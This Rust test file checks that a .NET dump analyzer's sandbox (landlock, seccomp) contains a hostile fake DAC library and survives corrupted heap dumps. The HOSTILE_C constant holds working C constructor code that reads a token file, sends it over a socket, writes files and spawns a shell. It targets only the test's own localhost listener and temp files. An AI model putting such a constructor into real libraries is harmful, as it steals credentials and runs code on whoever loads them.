//! Attacks on the analyzer through the DAC worker, against a real .NET 8 heap dump: a hostile
//! "DAC" (built here with `cc`) whose ELF constructor tries what a compromised app pod would
//! want from the analysis Job, and damaged dumps. Each attack is first shown to succeed with
//! the sandbox off (so these tests can fail), then to get nothing with it on.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use clrdump::sandbox::Layer;
use clrdump::{Depth, Error, ReadOptions};
use support::{dump, worker};
use testbed::{Runtime, Workload};

mod support;

/// The constructor: connect to the test's listener and send the token, read the token, write a
/// file, run a shell that touches a marker (fork + exec, then posix_spawn).
const HOSTILE_C: &str = r#"
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <spawn.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;
__attribute__((used)) static const char version[] = "@(#)Version " VERSION " @Commit: hostile";

__attribute__((constructor)) static void attack(void) {
    char token[256] = "";
    int fd = open(TOKEN, O_RDONLY);
    if (fd >= 0) {
        ssize_t n = read(fd, token, sizeof token - 1);
        if (n > 0) token[n] = 0;
        close(fd);
        fprintf(stderr, "HOSTILE read the token: %s\n", token);
    } else {
        perror("HOSTILE open token");
    }
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s >= 0) {
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(PORT);
        a.sin_addr.s_addr = htonl(0x7f000001);
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
            write(s, token, strlen(token) + 1);
            fprintf(stderr, "HOSTILE connected\n");
        } else {
            perror("HOSTILE connect");
        }
        close(s);
    } else {
        perror("HOSTILE socket");
    }
    int w = open(WRITTEN, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (w >= 0) {
        write(w, token, strlen(token));
        close(w);
    } else {
        perror("HOSTILE write");
    }
    pid_t p = fork();
    if (p == 0) {
        execl("/bin/sh", "sh", "-c", "touch " EXECUTED, (char *)0);
        _exit(127);
    } else if (p > 0) {
        waitpid(p, 0, 0);
    } else {
        perror("HOSTILE fork");
    }
    char *argv[] = {"sh", "-c", "touch " EXECUTED, 0};
    pid_t q;
    if (posix_spawn(&q, "/bin/sh", 0, 0, argv, environ) == 0) {
        waitpid(q, 0, 0);
    } else {
        perror("HOSTILE posix_spawn");
    }
}
"#;

struct Attack {
    _dir: tempfile::TempDir,
    dac: PathBuf,
    token: String,
    listener: TcpListener,
    written: PathBuf,
    executed: PathBuf,
}

impl Attack {
    /// Builds the hostile library for a runtime of `version`, with a token file standing in for
    /// the Job's projected ServiceAccount token.
    fn build(version: &str) -> Attack {
        let dir = tempfile::tempdir().unwrap();
        let token = format!("TOKEN-{}-{}", std::process::id(), version.replace('.', ""));
        let secrets = dir.path().join("secrets");
        std::fs::create_dir(&secrets).unwrap();
        std::fs::write(secrets.join("token"), &token).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let out = dir.path().join("out");
        std::fs::create_dir(&out).unwrap();
        let (written, executed) = (out.join("written"), out.join("executed"));
        let src = dir.path().join("hostile.c");
        std::fs::write(&src, HOSTILE_C).unwrap();
        let dac = dir.path().join("libmscordaccore.so");
        let q = |p: &Path| format!("\"{}\"", p.display());
        let status = Command::new("cc")
            .args(["-shared", "-fPIC", "-o"])
            .arg(&dac)
            .arg(&src)
            .arg(format!("-DVERSION=\"{version}\""))
            .arg(format!("-DTOKEN={}", q(&secrets.join("token"))))
            .arg(format!("-DPORT={}", listener.local_addr().unwrap().port()))
            .arg(format!("-DWRITTEN={}", q(&written)))
            .arg(format!("-DEXECUTED=\"{}\"", executed.display()))
            .status()
            .expect("cc");
        assert!(status.success(), "building the hostile DAC");
        Attack { _dir: dir, dac, token, listener, written, executed }
    }

    /// Whether the listener got a connection since the last call.
    fn connected(&self) -> bool {
        match self.listener.accept() {
            Ok(_) => true,
            Err(e) if e.kind() == ErrorKind::WouldBlock => false,
            Err(e) => panic!("accept: {e}"),
        }
    }
}

fn net8_dump() -> (tempfile::TempDir, PathBuf, String) {
    let w = Workload::start(Runtime::Net8, "Idle", &[]);
    let dir = tempfile::tempdir().unwrap();
    let core = dump(&w, dir.path());
    let version = clrdump::core::file_version(&Runtime::Net8.shared_dir().join("libmscordaccore.so")).unwrap().unwrap();
    (dir, core, version)
}

#[test]
fn a_hostile_dac_gets_no_socket_no_token_no_write_and_no_shell() {
    let (_dir, core, version) = net8_dump();
    let attack = Attack::build(&version);
    let mut opts = ReadOptions::new(worker(), Depth::Histogram);
    opts.dac = Some(attack.dac.clone());

    // Control: without the sandbox every attack works (and the analysis still fails: the
    // library is no DAC). This is what the sandbox has to stop.
    opts.sandbox = false;
    let e = clrdump::read_dump(&core, &opts).expect_err("not a DAC");
    assert!(attack.connected(), "control: the constructor reached the listener");
    assert!(e.to_string().contains(&attack.token), "control: the token was read: {e}");
    assert_eq!(std::fs::read_to_string(&attack.written).unwrap(), attack.token, "control: a file was written");
    assert!(attack.executed.exists(), "control: a shell ran");
    std::fs::remove_file(&attack.written).unwrap();
    std::fs::remove_file(&attack.executed).unwrap();

    opts.sandbox = true;
    let e = clrdump::read_dump(&core, &opts).expect_err("not a DAC");
    let msg = e.to_string();
    assert!(matches!(e, Error::Worker(_)), "{e:?}");
    assert!(msg.contains("exports no CLRDataCreateInstance"), "a clear error: {msg}");
    assert!(msg.contains("landlock: enforced") && msg.contains("seccomp: enforced"), "{msg}");
    assert!(!attack.connected(), "the listener got a connection");
    assert!(!msg.contains(&attack.token), "the token leaked: {msg}");
    assert!(!attack.written.exists(), "a file was written");
    assert!(!attack.executed.exists(), "a shell ran");
    // Each attempt failed at the system call, as the constructor reports. (glibc's fork is a
    // `clone`, which threads need too: the child it makes cannot exec either.)
    for refused in ["HOSTILE open token", "HOSTILE socket", "HOSTILE write", "HOSTILE posix_spawn"] {
        assert!(msg.contains(refused), "{refused}: {msg}");
    }
}

#[test]
fn the_real_dacs_work_confined_on_both_runtimes() {
    for runtime in Runtime::ALL {
        let w = Workload::start(runtime, "Idle", &[]);
        let dir = tempfile::tempdir().unwrap();
        let core = dump(&w, dir.path());
        let mut opts = ReadOptions::new(worker(), Depth::Graph);
        opts.dac = Some(runtime.shared_dir().join("libmscordaccore.so"));
        let d = clrdump::read_dump(&core, &opts).unwrap_or_else(|e| panic!("{runtime:?}: {e}"));
        let c = &d.confinement;
        // This kernel (6.18) has landlock and seccomp: every layer must be in force.
        for (name, layer) in [("rlimits", &c.rlimits), ("landlock", &c.landlock), ("seccomp", &c.seccomp)] {
            assert!(matches!(layer, Layer::Enforced(_)), "{runtime:?}: {name} {layer:?}");
        }
        assert!(c.warnings().is_empty(), "{:?}", c.warnings());
        assert!(!d.snapshot.threads.is_empty() && d.graph.is_some(), "{runtime:?}");
    }
}

/// Damaged dumps whose headers still pass the parent's checks: the runtime's data left intact so
/// that the DAC starts, but its GC heap overwritten with wild pointers (all ones, a repeating
/// address, a pointer into the heap itself), in every third word or in every word. Whatever the
/// DAC and the walks make of it, the caller gets a typed error or a result that admits the
/// damage, never a crash or a hang of its own.
#[test]
fn a_corrupted_dump_kills_or_stops_the_worker_not_the_caller() {
    let w = Workload::start(Runtime::Net8, "DiagScenarios", &[]);
    w.get("/leak?count=20000");
    let dir = tempfile::tempdir().unwrap();
    let core = dump(&w, dir.path());
    let opts = {
        let mut o = ReadOptions::new(worker(), Depth::Graph);
        o.dac = Some(Runtime::Net8.shared_dir().join("libmscordaccore.so"));
        o.timeout = std::time::Duration::from_secs(120);
        o
    };
    let clean = clrdump::read_dump(&core, &opts).expect("the clean dump reads");
    assert_eq!(clean.snapshot.heap.resyncs, 0);
    let elf = clrdump::core::CoreDump::open(&core).unwrap().elf().loads.clone();
    let file_range = |[start, end]: [u64; 2]| {
        let l = elf.iter().find(|l| l.vaddr <= start && start < l.vaddr + l.filesz)?;
        let from = l.offset + (start - l.vaddr);
        Some(from as usize..(from + (end.min(l.vaddr + l.filesz) - start)) as usize)
    };
    let heap: Vec<_> = clean.snapshot.heap.ranges.iter().filter_map(|r| file_range(*r)).collect();
    assert!(!heap.is_empty(), "the heap's ranges are in the dump");
    let bytes = std::fs::read(&core).unwrap();
    let inside = clean.snapshot.heap.ranges[0][0] + 0x18;
    let mut damaged = 0;
    for (i, (fill, every)) in
        [([0xffu8; 8], 3), (0x7f00_dead_beefu64.to_le_bytes(), 3), (inside.to_le_bytes(), 1)].iter().enumerate()
    {
        let mut bad = bytes.clone();
        for r in &heap {
            for (j, chunk) in bad[r.clone()].chunks_exact_mut(8).enumerate() {
                if j % every == every - 1 {
                    chunk.copy_from_slice(fill);
                }
            }
        }
        let path = dir.path().join(format!("bad{i}"));
        std::fs::write(&path, &bad).unwrap();
        let got = clrdump::read_dump(&path, &opts);
        eprintln!("pattern {i}: {:?}", got.as_ref().map(|d| (d.snapshot.heap.resyncs, d.snapshot.warnings.len())));
        match got {
            Err(
                Error::Worker(_)
                | Error::WorkerTimeout(_)
                | Error::Heap(_)
                | Error::Graph(_)
                | Error::NoHeap(_)
                | Error::DacMismatch { .. },
            ) => damaged += 1,
            Err(other) => panic!("pattern {i}: an unexpected error kind: {other:?}"),
            // Read through: the walk must have noticed (resynchronized past garbage or warned).
            Ok(d) if d.snapshot.heap.resyncs > 0 || !d.snapshot.warnings.is_empty() => damaged += 1,
            Ok(_) => {}
        }
        std::fs::remove_file(&path).unwrap();
    }
    assert!(damaged > 0, "no pattern reached the heap walk: the test damaged nothing that is read");
}
